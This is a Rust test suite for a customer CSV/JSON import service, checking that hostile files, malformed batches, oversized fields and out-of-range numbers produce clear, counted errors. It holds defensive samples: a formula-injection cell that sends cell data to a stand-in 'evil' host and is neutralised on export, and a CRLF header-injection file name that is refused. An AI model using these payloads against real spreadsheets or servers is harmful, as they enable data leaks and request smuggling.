//! Bad inputs: the committed corpus of hostile files in `backend/tests/hostile/` (plus big
//! ones generated here) through the raw CSV API, each checked for a clear error naming line
//! and field and for counts that add up; and hostile JSON batches (malformed, wrong types,
//! huge numbers, row-count limits, 1 MB fields, NUL bytes), the same on both engines.

use axum::body::Body;
use axum::http::{Method, StatusCode};
use serde_json::Value;

use crate::support::{TestApp, assert_counts_add_up};

/// What one file must give: the final status, created/failed/skipped counts, and problems
/// `(line, field, code)` that the error report must hold.
struct Expect {
    file: &'static str,
    query: &'static str,
    status: &'static str,
    created: i64,
    failed: i64,
    skipped: i64,
    errors: &'static [(u64, &'static str, &'static str)],
    /// For a failed import: words its error must contain.
    message: &'static str,
}

const CORPUS: &[Expect] = &[
    Expect {
        file: "bad_consent.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 2,
        skipped: 0,
        errors: &[
            (3, "accepts_marketing", "invalid_accepts_marketing"),
            (5, "accepts_marketing", "invalid_accepts_marketing"),
        ],
        message: "",
    },
    Expect {
        file: "binary_png.csv",
        query: "",
        status: "failed",
        created: 0,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "not a csv text file",
    },
    Expect {
        file: "empty.csv",
        query: "",
        status: "failed",
        created: 0,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "empty",
    },
    Expect {
        file: "email_shapes.csv",
        query: "",
        status: "completed",
        created: 3,
        failed: 3,
        skipped: 1,
        errors: &[
            (3, "email", "invalid_email"),
            (4, "email", "invalid_email"),
            (5, "email", "email_too_long"),
        ],
        message: "",
    },
    Expect {
        file: "formula_cells.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "",
    },
    Expect {
        file: "header_only.csv",
        query: "",
        status: "completed",
        created: 0,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "",
    },
    Expect {
        file: "invalid_utf8.csv",
        query: "encoding=utf-8",
        status: "completed",
        created: 2,
        failed: 1,
        skipped: 0,
        errors: &[(3, "first_name", "invalid_encoding")],
        message: "",
    },
    Expect {
        file: "lone_cr_semicolon.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "",
    },
    Expect {
        file: "nul_and_controls.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "",
    },
    Expect {
        file: "quoted_newlines.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "",
    },
    Expect {
        file: "ragged_rows.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 1,
        skipped: 0,
        errors: &[(3, "row", "ragged_row")],
        message: "",
    },
    Expect {
        file: "same_email_other_case.csv",
        query: "",
        status: "completed",
        created: 1,
        failed: 0,
        skipped: 1,
        errors: &[],
        message: "",
    },
    Expect {
        file: "stray_quote.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 0,
        skipped: 0,
        errors: &[],
        message: "",
    },
    Expect {
        file: "unbalanced_quote.csv",
        query: "",
        status: "completed",
        created: 2,
        failed: 1,
        skipped: 0,
        errors: &[(2, "row", "unbalanced_quote")],
        message: "",
    },
    Expect {
        file: "utf16le_bom_tab.csv",
        query: "",
        status: "completed",
        created: 1,
        failed: 1,
        skipped: 0,
        errors: &[(2, "email", "invalid_email")],
        message: "",
    },
    Expect {
        file: "windows1251_preamble.csv",
        query: "",
        status: "completed",
        created: 1,
        failed: 1,
        skipped: 0,
        errors: &[(5, "email", "invalid_email")],
        message: "",
    },
];

async fn upload(app: &TestApp, query: &str, bytes: Vec<u8>) -> Value {
    let req = app
        .builder(Method::POST, &format!("/api/imports/csv?{query}"))
        .header("content-type", "text/csv")
        .body(Body::from(bytes))
        .unwrap();
    let import = app.raw(req).await.expect(StatusCode::ACCEPTED).json();
    app.wait_for_import(import["id"].as_i64().unwrap()).await
}

/// The error report as `(line, field, code)`, each row checked to name a line and field.
async fn report(app: &TestApp, id: i64) -> Vec<(u64, String, String)> {
    let text = app
        .get(&format!("/api/imports/{id}/errors.csv"))
        .await
        .expect(StatusCode::OK)
        .text();
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("line,field,value,code,message"));
    lines
        .filter(|l| !l.is_empty() && l.as_bytes()[0].is_ascii_digit())
        .map(|l| {
            let mut cells = l.splitn(3, ',');
            let line: u64 = cells.next().unwrap().parse().unwrap();
            let field = cells.next().unwrap().to_owned();
            // The code is the second-to-last cell; messages have no commas before it.
            let rest = cells.next().unwrap();
            let code = rest
                .rsplit(',')
                .find(|c| c.chars().all(|ch| ch.is_ascii_lowercase() || ch == '_') && !c.is_empty())
                .unwrap_or("")
                .to_owned();
            assert!(line >= 1 && !field.is_empty(), "{l}");
            (line, field, code)
        })
        .collect()
}

#[track_caller]
fn check(name: &str, done: &Value, e: &Expect, problems: &[(u64, String, String)]) {
    assert_eq!(done["status"], e.status, "{name}: {done}");
    let c = &done["counts"];
    assert_eq!(
        (
            c["created"].as_i64().unwrap(),
            c["failed"].as_i64().unwrap(),
            c["skipped"].as_i64().unwrap()
        ),
        (e.created, e.failed, e.skipped),
        "{name}: {done} {problems:?}"
    );
    assert_counts_add_up(done);
    if e.status == "completed" {
        assert_eq!(c["processed"], c["received"], "{name}: {done}");
        let mut lines: Vec<u64> = problems.iter().map(|p| p.0).collect();
        lines.dedup();
        assert_eq!(
            lines.len() as i64,
            e.failed,
            "{name}: one failed row per reported line: {problems:?}"
        );
    } else {
        let msg = done["error"].as_str().unwrap_or_default().to_lowercase();
        assert!(msg.contains(e.message), "{name}: {done}");
    }
    for (line, field, code) in e.errors {
        assert!(
            problems
                .iter()
                .any(|p| p.0 == *line && p.1 == *field && p.2 == *code),
            "{name}: no ({line}, {field}, {code}) in {problems:?}"
        );
    }
}

#[tokio::test]
async fn every_hostile_file_of_the_corpus_gets_a_clear_error_with_line_and_field() {
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile");
    let on_disk = std::fs::read_dir(&corpus).unwrap().count();
    assert_eq!(
        on_disk,
        CORPUS.len(),
        "every committed file has an expectation"
    );
    crate::each_engine!("hostile_corpus", |app| {
        for e in CORPUS {
            let bytes = std::fs::read(corpus.join(e.file)).unwrap();
            let done = upload(&app, e.query, bytes).await;
            let id = done["id"].as_i64().unwrap();
            let problems = report(&app, id).await;
            check(e.file, &done, e, &problems);
            // What was stored: NUL and control characters dropped (the same on both engines),
            // the later row wins, quoted newlines kept, formulas stored as text and
            // neutralised on export.
            let list = app.get("/api/customers?sort=email").await.json();
            let items = list["items"].as_array().unwrap().clone();
            match e.file {
                "nul_and_controls.csv" => {
                    assert_eq!(items[0]["first_name"], "Ann", "{list}");
                    assert_eq!(items[1]["email"], "b@example.com", "{list}");
                    assert!(!list.to_string().contains("\\u0000"), "{list}");
                }
                "same_email_other_case.csv" => {
                    assert_eq!(items[0]["first_name"], "Second", "{list}")
                }
                "quoted_newlines.csv" => {
                    assert_eq!(items[0]["note"], "line one\nline two", "{list}");
                    assert_eq!(items[1]["first_name"], "B \"the\" Bob", "{list}");
                }
                "formula_cells.csv" => {
                    assert_eq!(items[0]["first_name"], "=HYPERLINK(\"http://evil/?x=\"&A1)");
                    let export = app
                        .get("/api/customers/export.csv")
                        .await
                        .expect(StatusCode::OK)
                        .text();
                    for cell in ["\"'=HYPERLINK", "'+cmd", "'@SUM", "'-2+3"] {
                        assert!(export.contains(cell), "{cell} in {export}");
                    }
                }
                _ => {}
            }
            // Undo, so the next file starts from no customers.
            if done["status"] == "completed" && e.created > 0 {
                app.undo_import(id).await;
            }
            assert_eq!(app.get("/api/customers").await.json()["total"], 0);
        }
    });
}

#[tokio::test]
async fn generated_hostile_files_wide_rows_and_a_huge_field_are_capped_and_reported() {
    crate::each_engine!("hostile_generated", |app| {
        // 1,200 columns.
        let mut wide = String::from("email");
        for i in 1..1200 {
            wide.push_str(&format!(",c{i}"));
        }
        wide.push('\n');
        for r in 0..3 {
            wide.push_str(&format!("w{r}@example.com"));
            wide.push_str(&",x".repeat(1199));
            wide.push('\n');
        }
        let done = upload(&app, "", wide.into_bytes()).await;
        let problems = report(&app, done["id"].as_i64().unwrap()).await;
        eprintln!("wide: {done} {problems:?}");
        assert_counts_add_up(&done);
        assert_eq!(done["counts"]["received"], 3, "{done}");
        assert_eq!(
            done["counts"]["created"], 3,
            "1,200 columns are fine: {done}"
        );

        // A 50 MB field in the middle of a file: capped and reported, its neighbours kept.
        let mut huge =
            b"email,first_name,note\nbefore@example.com,B,ok\nhuge@example.com,H,\"".to_vec();
        huge.extend(std::iter::repeat_n(b'y', 50 << 20));
        huge.extend_from_slice(b"\"\nafter@example.com,A,ok\n");
        let done = upload(&app, "", huge).await;
        let problems = report(&app, done["id"].as_i64().unwrap()).await;
        eprintln!("huge: {done} {problems:?}");
        assert_eq!(done["status"], "completed", "{done}");
        assert_counts_add_up(&done);
        assert_eq!(done["counts"]["received"], 3, "{done}");
        assert!(
            problems == [(3, "note".to_owned(), "field_too_long".to_owned())],
            "the huge field is reported at its line: {problems:?}"
        );
        let emails = app.customer_emails().await;
        assert!(
            emails.contains(&"before@example.com".to_owned()),
            "{emails:?}"
        );
        assert!(
            emails.contains(&"after@example.com".to_owned()),
            "{emails:?}"
        );
    });
}

#[tokio::test]
async fn hostile_json_batches_get_contract_errors_and_limits_hold_the_same_on_both_engines() {
    use serde_json::json;
    crate::each_engine!("hostile_json", |app| {
        let id = app
            .post("/api/imports", json!({"file_name": "j.csv"}))
            .await
            .expect(StatusCode::CREATED)
            .json()["id"]
            .as_i64()
            .unwrap();
        let put_raw = |seq: &str, body: String| {
            app.builder(Method::PUT, &format!("/api/imports/{id}/batches/{seq}"))
                .header("content-type", "application/json")
                .body(Body::from(body))
                .unwrap()
        };
        // Wrong types and huge numbers: 4xx with the contract's error body, never a 500.
        for body in [
            r#"{"rows": "nope"}"#,
            r#"{"rows": [{"line": "two", "email": "a@example.com"}]}"#,
            r#"{"rows": [{"line": 2, "email": 42}]}"#,
            r#"{"rows": [{"line": 2, "email": "a@example.com", "accepts_marketing": {"x": 1}}]}"#,
            r#"{"rows": [{"line": 1e400, "email": "a@example.com"}]}"#,
            r#"{"rows": [{"line": 99999999999999999999999, "email": "a@example.com"}]}"#,
            r#"{"rows": [{"line": -1, "email": "a@example.com"}]}"#,
            r#"[]"#,
            "",
        ] {
            let reply = app.raw(put_raw("0", body.to_owned())).await;
            assert!(
                reply.status.is_client_error(),
                "{body}: {} {}",
                reply.status,
                reply.text()
            );
            let code = reply.json()["error"]["code"].as_str().unwrap().to_owned();
            assert!(!code.is_empty(), "{body}");
        }
        for seq in ["-1", "99999999999999999999999", "x"] {
            let reply = app.raw(put_raw(seq, r#"{"rows": []}"#.to_owned())).await;
            assert!(
                reply.status.is_client_error(),
                "seq {seq}: {}",
                reply.status
            );
            reply.json();
        }
        // 10,000 rows are accepted, 10,001 refused.
        let full = crate::support::rows("ten", 0, 10_000);
        let answer = app
            .put(
                &format!("/api/imports/{id}/batches/0"),
                json!({"rows": full}),
            )
            .await
            .expect(StatusCode::OK)
            .json();
        assert_eq!(answer["accepted"], 10_000);
        let over = crate::support::rows("over", 0, 10_001);
        let reply = app
            .put(
                &format!("/api/imports/{id}/batches/1"),
                json!({"rows": over}),
            )
            .await;
        assert!(
            reply.status == StatusCode::UNPROCESSABLE_ENTITY
                || reply.status == StatusCode::PAYLOAD_TOO_LARGE,
            "{} {}",
            reply.status,
            reply.text()
        );
        // A 1 MB note and NUL bytes: the row is stored or rejected the same way on both
        // engines (NUL is dropped; PostgreSQL would refuse it in text).
        let mb = "n".repeat(1 << 20);
        let answer = app
            .put(
                &format!("/api/imports/{id}/batches/1"),
                json!({"rows": [
                    {"line": 10002, "email": "big@example.com", "note": mb},
                    {"line": 10003, "email": "n\u{0}ul@example.com", "first_name": "N\u{0}ul", "note": "a\u{0}b"},
                ]}),
            )
            .await
            .expect(StatusCode::OK)
            .json();
        eprintln!("1 MB / NUL: {answer}");
        let rejected = answer["rejected"].as_array().unwrap();
        assert_eq!(rejected.len(), 1, "{answer}");
        assert_eq!(rejected[0]["line"], 10002, "{answer}");
        assert_eq!(rejected[0]["errors"][0]["field"], "note", "{answer}");
        assert_eq!(
            rejected[0]["errors"][0]["code"], "field_too_long",
            "{answer}"
        );
        app.post(
            &format!("/api/imports/{id}/commit"),
            json!({"batch_count": 2, "row_count": 10_002}),
        )
        .await
        .expect(StatusCode::ACCEPTED);
        let done = app.wait_for_import(id).await;
        assert_eq!(done["status"], "completed", "{done}");
        assert_counts_add_up(&done);
        let nul = app.get("/api/customers?q=nul@example.com").await.json();
        assert_eq!(nul["items"][0]["email"], "nul@example.com", "{nul}");
        assert_eq!(nul["items"][0]["first_name"], "Nul", "{nul}");
        assert_eq!(nul["items"][0]["note"], "ab", "{nul}");
    });
}

/// A page near `i64::MAX` overflowed `(page - 1) * per_page` (SQLite answered page 1's rows
/// labelled with the huge page). Every list bounds `page`.
#[tokio::test]
async fn a_page_past_the_bound_is_refused_on_every_list() {
    crate::each_engine!("huge_page", |app| {
        for list in ["/api/customers", "/api/imports", "/api/jobs"] {
            for page in ["0", "1000001", "9223372036854775807"] {
                let reply = app
                    .get(&format!("{list}?page={page}&per_page=500"))
                    .await
                    .expect(StatusCode::BAD_REQUEST);
                assert_eq!(
                    reply.json()["error"]["code"],
                    "invalid_page",
                    "{list} {page}"
                );
            }
            app.get(&format!("{list}?page=1000000&per_page=200"))
                .await
                .expect(StatusCode::OK);
        }
    });
}

/// A row's `line` is stored as a signed 64-bit number: `u64::MAX` came back as -1 in
/// `errors.csv`. Lines past `i64::MAX` are refused with the row's line named.
#[tokio::test]
async fn a_batch_row_line_past_the_signed_range_is_refused() {
    crate::each_engine!("huge_line", |app| {
        let import = app
            .post(
                "/api/imports",
                serde_json::json!({"file_name": "lines.csv"}),
            )
            .await
            .expect(StatusCode::CREATED)
            .json();
        let id = import["id"].as_i64().unwrap();
        let rows = serde_json::json!({"rows": [
            {"line": 2, "email": "ok@example.com"},
            {"line": u64::MAX, "email": "bad"},
        ]});
        let reply = app
            .put(&format!("/api/imports/{id}/batches/0"), rows)
            .await
            .expect(StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(reply.json()["error"]["code"], "invalid_line");
        assert!(
            reply.text().contains(&u64::MAX.to_string()),
            "{}",
            reply.text()
        );
        // The highest storable line is kept as it is.
        let rows = serde_json::json!({"rows": [{"line": i64::MAX, "email": "bad"}]});
        app.put(&format!("/api/imports/{id}/batches/0"), rows)
            .await
            .expect(StatusCode::OK);
        app.post(
            &format!("/api/imports/{id}/commit"),
            serde_json::json!({"batch_count": 1, "row_count": 1}),
        )
        .await
        .expect(StatusCode::ACCEPTED);
        app.wait_for_import(id).await;
        let csv = app
            .get(&format!("/api/imports/{id}/errors.csv"))
            .await
            .expect(StatusCode::OK)
            .text();
        assert!(csv.contains(&i64::MAX.to_string()), "{csv}");
        assert!(!csv.contains(",-1,") && !csv.contains("\n-1,"), "{csv}");
    });
}

/// Both ways to create an import take the same names: the raw upload accepted empty,
/// 65,000-character, NUL and CRLF names that the JSON route refused (or let through).
#[tokio::test]
async fn both_import_routes_refuse_the_same_file_names() {
    crate::each_engine!("file_names", |app| {
        // As long as a URI may be (the JSON route took 65,000 characters too).
        let long = "a".repeat(60_000);
        for bad in [
            "",
            "   ",
            long.as_str(),
            "a\0b.csv",
            "evil\r\nX-Header: 1.csv",
        ] {
            let reply = app
                .post("/api/imports", serde_json::json!({"file_name": bad}))
                .await
                .expect(StatusCode::UNPROCESSABLE_ENTITY);
            assert_eq!(reply.json()["error"]["code"], "invalid_file_name");
            let query: String = bad
                .bytes()
                .map(|b| match b {
                    b'a'..=b'z' | b'.' => char::from(b).to_string(),
                    _ => format!("%{b:02X}"),
                })
                .collect();
            let upload = app
                .builder(Method::POST, &format!("/api/imports/csv?file_name={query}"))
                .header("content-type", "text/csv")
                .body(Body::from("email\na@example.com\n"))
                .unwrap();
            let reply = app
                .raw(upload)
                .await
                .expect(StatusCode::UNPROCESSABLE_ENTITY);
            assert_eq!(reply.json()["error"]["code"], "invalid_file_name");
        }
        let upload = app
            .builder(Method::POST, "/api/imports/csv?file_name=%20shop.csv%20")
            .header("content-type", "text/csv")
            .body(Body::from("email\na@example.com\n"))
            .unwrap();
        let import = app.raw(upload).await.expect(StatusCode::ACCEPTED).json();
        assert_eq!(import["file_name"], "shop.csv");
    });
}

/// Customer data does not stay on disk: a raw upload's file is deleted once its rows are
/// stored, and when it cannot be read (52 imports left 48 files, 113 MiB, before).
#[tokio::test]
async fn uploaded_files_leave_the_disk_once_their_rows_are_stored_or_the_import_ends() {
    crate::each_engine!("upload_cleanup", |app| {
        let uploads = app.state.config.data_dir.join("uploads");
        let upload = |body: &'static [u8]| {
            app.builder(Method::POST, "/api/imports/csv")
                .header("content-type", "text/csv")
                .body(Body::from(body))
                .unwrap()
        };
        // The file goes just after the import's end is recorded: wait a moment for it.
        let files = || async {
            for _ in 0..100 {
                if std::fs::read_dir(&uploads).map_or(0, |d| d.count()) == 0 {
                    return 0;
                }
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            }
            std::fs::read_dir(&uploads).map_or(0, |d| d.count())
        };
        let ok = app
            .raw(upload(b"email\na@example.com\nb@example.com\n"))
            .await
            .expect(StatusCode::ACCEPTED)
            .json();
        let done = app.wait_for_import(ok["id"].as_i64().unwrap()).await;
        assert_eq!(done["status"], "completed", "{done}");
        assert_eq!(files().await, 0, "a split upload stays on disk");
        let bad = app
            .raw(upload(b"\x00\x01\x02\x03binary\x00\x00\xff\xfe"))
            .await
            .expect(StatusCode::ACCEPTED)
            .json();
        let failed = app.wait_for_import(bad["id"].as_i64().unwrap()).await;
        assert_eq!(failed["status"], "failed", "{failed}");
        assert_eq!(files().await, 0, "an unreadable upload stays on disk");
    });
}
